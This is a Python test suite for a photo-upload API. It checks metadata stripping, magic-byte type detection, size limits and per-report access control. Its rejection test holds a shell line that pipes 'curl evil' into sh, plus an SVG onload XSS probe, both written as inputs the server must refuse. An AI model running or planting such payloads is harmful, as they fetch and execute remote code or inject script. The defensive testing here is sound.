"""test_photos.py - POST/GET /api/v1/reports/{id}/photos: EXIF GPS and PNG text stripped before storage,
type by magic bytes (not the header), 415 for anything else, 413 past 10 MiB, scope on upload and download."""
import struct
import unittest
import zlib

import harness
from test_reports import new_body, point_in_haizhou

MIB = 1024 * 1024


def seg(marker, payload):
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg(pad=0):
    exif = b"Exif\0\0MM\0*\0\0\0\x08GPSLatitudeRef=N;GPSLatitude=34.6012;GPSLongitude=119.2231;Make=PhoneCo"
    return (b"\xFF\xD8" + seg(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0") + seg(0xE1, exif)
            + seg(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>GPS</x:xmpmeta>") + seg(0xFE, b"shot by patrol 7")
            + seg(0xDB, b"\0" + bytes([1] * 64)) + seg(0xC0, bytes([8, 0, 16, 0, 16, 1, 1, 0x11, 0]))
            + seg(0xC4, bytes([0] + [1] + [0] * 15 + [5])) + seg(0xDA, bytes([1, 1, 0, 0, 63, 0]))
            + b"\x12\x34\xFF\x00\x56" + b"\x55" * pad + b"\xFF\xD9")


def chunk(t, data):
    return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data) & 0xFFFFFFFF)


def png():
    raw = b"\0\xff\0\0"  # one RGB pixel, filter 0
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"tEXt", b"Comment\0GPS 34.60N 119.22E home of the reporter")
            + chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<gps/>") + chunk(b"tIME", b"\x07\xe8\x05\x01\x0a\0\0")
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def png_chunks(b):
    out, i = [], 8
    while i < len(b):
        n = struct.unpack(">I", b[i:i + 4])[0]
        t, data, crc = b[i + 4:i + 8], b[i + 8:i + 8 + n], struct.unpack(">I", b[i + 8 + n:i + 12 + n])[0]
        assert zlib.crc32(t + data) & 0xFFFFFFFF == crc
        out.append(t.decode())
        i += 12 + n
    return out


class PhotosTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.db = harness.fresh_db()
        cls.srv = harness.Server(cls.db)
        cls.tok = {u: cls.srv.login(u) for u in ("dispatcher", "dispatcher_gn", "supervisor", "patrol")}
        lon, lat = point_in_haizhou(cls.db)
        r = cls.srv.request("POST", "/api/v1/reports", json_body=new_body(lon, lat), token=cls.tok["patrol"])
        cls.rid = r.json()["id"]

    @classmethod
    def tearDownClass(cls):
        cls.srv.stop()
        cls.db.drop()

    def upload(self, data, ctype, user="patrol", rid=None):
        return self.srv.request("POST", "/api/v1/reports/%d/photos" % (rid or self.rid), body=data,
                                headers={"Content-Type": ctype}, token=self.tok[user])

    def photo_count(self):
        return self.db.value("SELECT count(*) FROM photos")

    def test_jpeg_exif_gps_stripped(self):
        src = jpeg()
        self.assertIn(b"GPSLatitude", src)
        r = self.upload(src, "image/jpeg")
        self.assertEqual(r.status, 201, r)
        p = r.json()
        self.assertEqual(p["content_type"], "image/jpeg")
        g = self.srv.request("GET", p["url"], token=self.tok["dispatcher"])
        self.assertEqual(g.status, 200)
        self.assertEqual(g.headers["content-type"], "image/jpeg")
        for needle in (b"GPS", b"Exif", b"xmpmeta", b"shot by patrol"):
            self.assertNotIn(needle, g.body)
        self.assertTrue(g.body.startswith(b"\xFF\xD8\xFF\xE0") and g.body.endswith(b"\xFF\xD9"))
        self.assertIn(b"\x12\x34\xFF\x00\x56", g.body)  # scan data untouched
        stored = self.db.value("SELECT encode(data, 'hex') FROM photos WHERE id = %s", p["id"])
        self.assertEqual(bytes.fromhex(stored), g.body)
        self.assertEqual(p["bytes"], len(g.body))
        tl = self.srv.request("GET", "/api/v1/reports/%d/timeline" % self.rid, token=self.tok["dispatcher"]).json()
        self.assertIn(p["id"], [i["details"].get("photo_id") for i in tl["items"] if i["type"] == "photo_added"])

    def test_png_text_stripped_and_magic_wins(self):
        self.assertEqual(self.upload(png(), "image/jpeg").status, 415)  # the header lies
        r = self.upload(png(), "image/png")
        self.assertEqual(r.status, 201, r)
        self.assertEqual(r.json()["content_type"], "image/png")
        g = self.srv.request("GET", r.json()["url"], token=self.tok["patrol"])
        self.assertEqual(g.headers["content-type"], "image/png")
        self.assertEqual(png_chunks(g.body), ["IHDR", "IDAT", "IEND"])
        self.assertNotIn(b"GPS", g.body)

    def test_not_images_are_415(self):
        before = self.photo_count()
        for data, ctype in ((b"#!/bin/sh\ncurl evil | sh\n", "image/png"), (b"<svg onload=alert(1)/>", "image/png"),
                            (b"\x89PNG\r\n\x1a\n#!/bin/sh", "image/png"), (jpeg()[:-40], "image/jpeg"), (b"", "image/jpeg"),
                            (b"GIF89a\x01\0\x01\0", "image/gif")):
            with self.subTest(data=data[:12]):
                r = self.upload(data, ctype)
                self.assertEqual((r.status, r.error), (415, "unsupported_media_type"), r)
        bad_crc = bytearray(png())
        bad_crc[20] ^= 1
        self.assertEqual(self.upload(bytes(bad_crc), "image/png").status, 415)
        self.assertEqual(self.photo_count(), before)

    def test_size_limit(self):
        before = self.photo_count()
        base = len(jpeg())
        exact = jpeg(10 * MIB - base)
        self.assertEqual(len(exact), 10 * MIB)
        r = self.upload(exact, "image/jpeg")
        self.assertEqual(r.status, 201, r)
        r = self.upload(jpeg(10 * MIB - base + 1), "image/jpeg")
        self.assertEqual((r.status, r.error), (413, "payload_too_large"), r)
        self.assertEqual(self.photo_count(), before + 1)

    def test_scope(self):
        r = self.upload(jpeg(), "image/jpeg")
        url = r.json()["url"]
        before = self.photo_count()
        self.assertEqual(self.upload(jpeg(), "image/jpeg", user="dispatcher_gn").status, 404)
        self.assertEqual(self.photo_count(), before)
        self.assertEqual(self.srv.request("GET", url, token=self.tok["dispatcher_gn"]).status, 404)
        self.assertEqual(self.srv.request("GET", url, token=self.tok["supervisor"]).status, 200)
        self.assertEqual(self.srv.request("GET", url).status, 401)
        lst = self.srv.request("GET", "/api/v1/reports/%d/photos" % self.rid, token=self.tok["dispatcher"])
        self.assertIn(r.json()["id"], [p["id"] for p in lst.json()["items"]])
        self.assertEqual(self.srv.request("GET", "/api/v1/reports/%d/photos/999999" % self.rid,
                                          token=self.tok["dispatcher"]).status, 404)
        other = self.srv.request("POST", "/api/v1/reports", json_body=new_body(*point_in_haizhou(self.db)),
                                 token=self.tok["patrol"]).json()["id"]
        # a photo is only reachable under its own report
        self.assertEqual(self.srv.request("GET", "/api/v1/reports/%d/photos/%d" % (other, r.json()["id"]),
                                          token=self.tok["dispatcher"]).status, 404)
        self.assertEqual(self.upload(jpeg(), "image/jpeg", rid=987654321).status, 404)


if __name__ == "__main__":
    unittest.main()
